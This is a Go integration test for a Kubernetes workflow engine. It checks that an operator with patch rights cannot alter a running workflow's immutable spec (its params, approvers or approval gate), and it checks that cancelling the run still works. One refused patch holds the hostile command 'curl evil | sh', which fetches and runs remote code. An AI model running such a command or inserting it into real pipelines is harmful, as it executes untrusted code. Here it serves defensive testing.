package security

import (
	"context"
	"strings"
	"testing"
	"time"

	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	krtv1 "krt.dev/krt/api/v1alpha1"
	"krt.dev/krt/test/kubetest"
)

// TestWorkflowRunSpecIsImmutable plays an operator whom RBAC lets patch
// WorkflowRuns, as `krt wf cancel` needs. On a run waiting at a gate she
// is not an approver of, she tries what the engine would believe, since
// it re-reads the definition on every pass: new params, herself as the
// approver, the gate dropped. The API server refuses each patch, saying
// the spec is immutable; the run still waits for alice. Cancelling it
// (with the real CLI, as her) still works, and cannot be taken back.
func TestWorkflowRunSpecIsImmutable(t *testing.T) {
	ctx := context.Background()
	ns := env.Namespace(t)
	wr := &krtv1.WorkflowRun{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "deploy-1"},
		Spec: krtv1.WorkflowRunSpec{
			Workflow: "deploy", Event: krtv1.WorkflowEvent{Type: krtv1.EventManual, Manual: &krtv1.ManualEvent{User: kubetest.AdminUser}},
			Params: map[string]string{"target": "staging"},
			Definition: krtv1.WorkflowSpec{Steps: []krtv1.Step{
				{Name: "gate", Approval: &krtv1.ApprovalGate{Approvers: []string{"alice"}}},
				{Name: "deploy", Needs: []string{"gate"}, Runtime: "bash", Run: "echo deploying to ${{ params.target }}"},
			}},
		},
	}
	if err := env.Client.Create(ctx, wr); err != nil {
		t.Fatal(err)
	}
	eventually(t, time.Minute, "the run to wait at its gate"+stack.ControllerState(), func() bool {
		return gateWaiting(ctx, wr)
	})
	oscar, kubeconfig := runPatcher(t, ns, "oscar")

	const immutable = "spec is immutable but for cancelRequested"
	for _, tc := range []struct{ name, patch string }{
		{"new params", `{"spec":{"params":{"target":"production"}}}`},
		{"herself as approver", `{"spec":{"definition":{"steps":[{"name":"gate","approval":{"approvers":["oscar"]}},` +
			`{"name":"deploy","needs":["gate"],"runtime":"bash","run":"echo deploying"}]}}}`},
		{"the gate dropped", `{"spec":{"definition":{"steps":[{"name":"deploy","runtime":"bash","run":"curl evil | sh"}]}}}`},
		{"a deploy's group joined", `{"spec":{"concurrencyGroup":"prod","cancelInProgress":true}}`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := oscar.Patch(ctx, wr.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(tc.patch)))
			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), immutable) {
				t.Fatalf("patch %s: %v; want it refused with %q", tc.patch, err, immutable)
			}
		})
	}
	cur := &krtv1.WorkflowRun{}
	if err := env.Client.Get(ctx, client.ObjectKeyFromObject(wr), cur); err != nil {
		t.Fatal(err)
	}
	if cur.Spec.Params["target"] != "staging" || cur.Spec.Definition.Steps[0].Approval.Approvers[0] != "alice" {
		t.Fatalf("the run's spec changed: %+v", cur.Spec)
	}
	if !gateWaiting(ctx, wr) {
		t.Fatalf("the gate is no longer waiting for alice: %+v", cur.Status.Nodes)
	}

	out, code := runKrtCLIAs(t, kubeconfig, "wf", "cancel", "-n", ns, wr.Name)
	if code != 0 || !strings.Contains(out, "cancel requested") {
		t.Fatalf("krt wf cancel as oscar (exit %d):\n%s", code, out)
	}
	eventually(t, time.Minute, "the cancelled run to end Cancelled", func() bool {
		return env.Client.Get(ctx, client.ObjectKeyFromObject(wr), cur) == nil && cur.Status.Phase == krtv1.WorkflowCancelled
	})
	err := oscar.Patch(ctx, cur, client.RawPatch(types.MergePatchType, []byte(`{"spec":{"cancelRequested":false}}`)))
	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "spec.cancelRequested cannot be unset") {
		t.Errorf("unsetting cancelRequested: %v; want it refused", err)
	}
}

// gateWaiting reports whether the run's gate node waits for a decision.
func gateWaiting(ctx context.Context, wr *krtv1.WorkflowRun) bool {
	cur := &krtv1.WorkflowRun{}
	if env.Client.Get(ctx, client.ObjectKeyFromObject(wr), cur) != nil {
		return false
	}
	for _, n := range cur.Status.Nodes {
		if n.Name == "gate" && n.Phase == krtv1.NodeWaiting {
			return true
		}
	}
	return false
}

// runPatcher is a user whom a Role in ns lets read and patch WorkflowRuns
// (what cancelling needs), as a client and as a kubeconfig for the CLI.
func runPatcher(t *testing.T, ns, user string) (client.Client, string) {
	t.Helper()
	c := certUser(t, user)
	grant(t, c, ns, "run-operator", user, []rbacv1.PolicyRule{{APIGroups: []string{krtv1.GroupVersion.Group},
		Resources: []string{"workflowruns"}, Verbs: []string{"get", "list", "watch", "patch"}}}, &krtv1.WorkflowRunList{})
	kubeconfig, err := env.UserKubeconfig(user)
	if err != nil {
		t.Fatal(err)
	}
	return c, kubeconfig
}
